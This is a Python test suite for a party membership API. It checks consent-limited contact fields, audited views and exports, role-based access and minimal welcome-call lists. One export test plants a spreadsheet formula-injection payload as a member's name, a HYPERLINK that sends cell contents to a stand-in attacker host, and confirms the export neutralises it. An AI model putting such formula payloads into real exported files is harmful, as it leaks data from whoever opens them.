"""A membership secretary sees their CLP's new members the day they arrive, lawfully.

Only their own CLP; only what each member consented to (no phone number for someone who did not agree
to calls); every view and export recorded with the purpose given and the members shown; a welcome call
list that gives phone bankers a name, a number and a join date and nothing else. Regional staff can see
who accessed which members' data, and nobody else reads members' contact details.
"""
from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from sqlalchemy import select

from server.extensions import db
from server.models import AuditEvent, AuditSubject, Member, MemberStatus, Notice, Role, Suppression, SuppressionKind
from server.services import accounts, notices
from tests.factories import NOW, bearer, login, make_world
from tests.server.phone import HttpPhone

TODAY = date.today()
WEEK_AGO = TODAY - timedelta(days=7)


def member(clp, number: str, first: str, last: str, *, joined: date, phone=True, email=True, post=True,
           status=MemberStatus.NEW, **extra) -> Member:
    m = Member(membership_number=number, constituency_id=clp.constituency.id, joined_on=joined, status=status,
               first_name=first, last_name=last, email=f"{first.lower()}@example.test",
               phone="07700 900" + number[-3:], address_lines=[f"{number[-2:]} Mill Lane", "Ashford"],
               postcode="AB1 2CD", consent_email=email, consent_phone=phone, consent_post=post, **extra)
    db.session.add(m)
    db.session.commit()
    return m


@pytest.fixture
def world(app):
    w = make_world()
    w.new = [
        member(w.home, "L0000101", "Ada", "Lovelace", joined=TODAY - timedelta(days=2)),
        member(w.home, "L0000102", "Brian", "Quiet", joined=TODAY - timedelta(days=3), phone=False, post=False),
        member(w.home, "L0000103", "Cara", "Formula", joined=TODAY - timedelta(days=1)),
    ]
    w.old = member(w.home, "L0000104", "Dora", "Longtime", joined=TODAY - timedelta(days=400), status=MemberStatus.ACTIVE)
    w.gone = member(w.home, "L0000105", "Eve", "Resigned", joined=TODAY - timedelta(days=4), status=MemberStatus.RESIGNED)
    w.elsewhere = member(w.neighbour, "L0000201", "Fay", "Neighbour", joined=TODAY - timedelta(days=1))
    return w


def _as(client, role):
    return bearer(login(client, role, device_name="Laptop"))


def _new(client, headers, **query):
    query.setdefault("since", WEEK_AGO.isoformat())
    query.setdefault("purpose", "Welcoming new members")
    return client.get("/api/v1/members/new", headers=headers, query_string=query)


def test_the_secretary_sees_this_weeks_new_members_with_only_the_fields_they_consented_to(client, world):
    response = _new(client, _as(client, Role.MEMBERSHIP_SECRETARY))
    assert response.status_code == 200, response.get_json()
    body = response.get_json()
    assert body["constituency"] == "Ashford North" and body["total"] == 3
    # Newest first; the long-standing member, the one who resigned and the other CLP's are not there.
    assert [m["membership_number"] for m in body["items"]] == ["L0000103", "L0000101", "L0000102"]
    brian = body["items"][2]
    assert brian["consent"] == {"email": True, "phone": False, "post": False}
    assert brian["phone"] is None and brian["address_lines"] is None and brian["postcode"] is None
    assert brian["email"] == "brian@example.test"
    ada = body["items"][1]
    assert ada["phone"] == "07700 900101" and ada["postcode"] == "AB1 2CD"
    assert body["can_phone"] == 2 and body["can_email"] == 3


def test_an_objection_hides_the_channel_it_closes(client, world):
    db.session.add(Suppression(constituency_id=world.home.constituency.id, member_id=world.new[0].id,
                               kind=SuppressionKind.DO_NOT_CONTACT, channel="phone", reason="Phoned to say no calls",
                               source="admin"))
    db.session.commit()
    ada = next(m for m in _new(client, _as(client, Role.MEMBERSHIP_SECRETARY)).get_json()["items"]
               if m["membership_number"] == "L0000101")
    assert ada["phone"] is None and ada["objected"] == ["phone"] and ada["email"] == "ada@example.test"


def test_every_view_is_audited_with_its_purpose_and_the_members_shown(client, world):
    headers = _as(client, Role.MEMBERSHIP_SECRETARY)
    assert _new(client, headers, purpose="Checking who to welcome").status_code == 200
    event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "members.view")).one()
    assert event.details["purpose"] == "Checking who to welcome"
    assert event.actor_user_id == world.users[Role.MEMBERSHIP_SECRETARY].id
    shown = set(db.session.scalars(select(AuditSubject.subject_id).where(AuditSubject.event_id == event.id,
                                                                         AuditSubject.subject_type == "member")))
    assert shown == {m.id for m in world.new}
    # No purpose, no view.
    refused = client.get("/api/v1/members/new", headers=headers, query_string={"since": WEEK_AGO.isoformat()})
    assert refused.status_code == 422 and "purpose" in refused.get_json()["error"]["details"]


def test_the_export_asks_the_purpose_neutralises_formulas_and_is_audited(client, world):
    world.new[2].first_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    db.session.commit()
    headers = _as(client, Role.MEMBERSHIP_SECRETARY)
    missing = client.post("/api/v1/members/new/export", headers=headers, json={"since": WEEK_AGO.isoformat()})
    assert missing.status_code == 422 and "purpose" in missing.get_json()["error"]["details"]

    response = client.post("/api/v1/members/new/export", headers=headers,
                           json={"since": WEEK_AGO.isoformat(), "purpose": "Welcome letters"})
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][:3] == ["Membership number", "First name", "Last name"]
    by_number = {r[0]: r for r in rows[1:]}
    assert set(by_number) == {"L0000101", "L0000102", "L0000103"}
    assert by_number["L0000103"][1].startswith("'=")  # shown as text, never run
    assert by_number["L0000102"][6] == "" and by_number["L0000102"][8] == ""  # no phone, no postcode: no consent
    event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "members.export")).one()
    assert event.details["purpose"] == "Welcome letters" and event.details["rows"] == 3


def test_a_canvasser_is_refused_and_another_clps_secretary_finds_nothing(client, world):
    assert _new(client, _as(client, Role.CANVASSER)).status_code == 403
    assert _new(client, _as(client, Role.CLP_ADMIN)).status_code == 403
    assert _new(client, _as(client, Role.REGIONAL_STAFF),
                constituency_id=world.home.constituency.id).status_code == 403
    accounts.create_user(email="sec@bramley.test", name="Bram Secretary", password="correct horse battery staple",
                         role=Role.MEMBERSHIP_SECRETARY, constituency_code=world.neighbour.constituency.code)
    other = bearer(login(client, "sec@bramley.test"))
    assert _new(client, other, constituency_id=world.home.constituency.id).status_code == 404
    own = _new(client, other).get_json()
    assert [m["membership_number"] for m in own["items"]] == ["L0000201"]
    assert client.post("/api/v1/members/new/export", headers=other, json={
        "since": WEEK_AGO.isoformat(), "purpose": "x" * 5,
        "constituency_id": world.home.constituency.id}).status_code == 404


def test_a_welcome_call_list_gives_phone_bankers_a_name_a_number_and_a_join_date(client, world):
    headers = _as(client, Role.MEMBERSHIP_SECRETARY)
    callers = client.get("/api/v1/members/callers", headers=headers).get_json()
    banker = world.users[Role.PHONE_BANKER]
    assert banker.id in [c["id"] for c in callers]
    made = client.post("/api/v1/members/welcome-lists", headers=headers, json={
        "since": WEEK_AGO.isoformat(), "campaign_id": world.local_drive.id,
        "ends_at": (NOW + timedelta(days=7)).isoformat(), "assignee_ids": [banker.id]})
    assert made.status_code == 201, made.get_json()
    (made_list,) = made.get_json()
    assert made_list["electors"] == 2  # Brian did not agree to calls
    assert [a["id"] for a in made_list["assignees"]] == [banker.id]
    event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "members.welcome_list")).one()
    assert event.details["members"] == 2

    phone = HttpPhone(client, Role.PHONE_BANKER)
    while phone.pull().get_json()["has_more"]:
        pass
    held = {key: value for key, value in phone.local.items() if key[0] == "member"}
    assert {m["first_name"] for m in held.values()} == {"Ada", "Cara"}
    for m in held.values():
        assert set(m) <= {"id", "first_name", "last_name", "phone", "reason", "called", "version"}
        assert "joined" in m["reason"]
        assert "email" not in m and "address_lines" not in m


def test_a_welcome_list_needs_somebody_to_call(client, world):
    headers = _as(client, Role.MEMBERSHIP_SECRETARY)
    response = client.post("/api/v1/members/welcome-lists", headers=headers, json={
        "since": TODAY.isoformat(), "campaign_id": world.local_drive.id,
        "ends_at": (NOW + timedelta(days=7)).isoformat(), "assignee_ids": []})
    assert response.status_code == 422
    assert response.get_json()["error"]["details"]["source"]


def test_regional_staff_see_who_accessed_which_members_and_nobody_else_does(client, world):
    secretary = _as(client, Role.MEMBERSHIP_SECRETARY)
    _new(client, secretary, purpose="Welcoming new members")
    client.post("/api/v1/members/new/export", headers=secretary,
                json={"since": WEEK_AGO.isoformat(), "purpose": "Welcome letters"})
    log = client.get("/api/v1/members/access-log", headers=_as(client, Role.REGIONAL_STAFF))
    assert log.status_code == 200, log.get_json()
    entries = log.get_json()["items"]
    assert [e["action"] for e in entries] == ["members.export", "members.view"]
    assert entries[0]["actor"]["name"] == "Membership Secretary" and entries[0]["purpose"] == "Welcome letters"
    assert entries[0]["membership_numbers"] == ["L0000101", "L0000102", "L0000103"]
    # One member's own trail.
    one = client.get("/api/v1/members/access-log", headers=_as(client, Role.NATIONAL_ADMIN),
                     query_string={"membership_number": "L0000102"}).get_json()
    assert one["total"] == 2
    # No names or contact details in the log, and it is not for CLP roles.
    assert "Lovelace" not in log.get_data(as_text=True) and "07700" not in log.get_data(as_text=True)
    for role in (Role.CLP_ADMIN, Role.MEMBERSHIP_SECRETARY, Role.CANVASSER):
        assert client.get("/api/v1/members/access-log", headers=_as(client, role)).status_code == 403


def test_the_secretary_is_told_how_many_joined_without_naming_anyone(client, world):
    assert notices.member_digest() == 1
    assert notices.member_digest() == 0  # once a day
    (notice,) = db.session.scalars(select(Notice)).all()
    assert notice.user_id == world.users[Role.MEMBERSHIP_SECRETARY].id
    # Joined in the last seven days: not the long-standing member, nor the one who resigned.
    assert notice.text == "3 new members joined Ashford North this week"
    headers = _as(client, Role.MEMBERSHIP_SECRETARY)
    listed = client.get("/api/v1/notices", headers=headers).get_json()
    assert [n["text"] for n in listed] == [notice.text] and listed[0]["read_at"] is None
    assert client.post(f"/api/v1/notices/{notice.id}/read", headers=headers).get_json()["read_at"]
    # Nobody else's notice can be marked.
    assert client.post(f"/api/v1/notices/{notice.id}/read", headers=_as(client, Role.CANVASSER)).status_code == 404
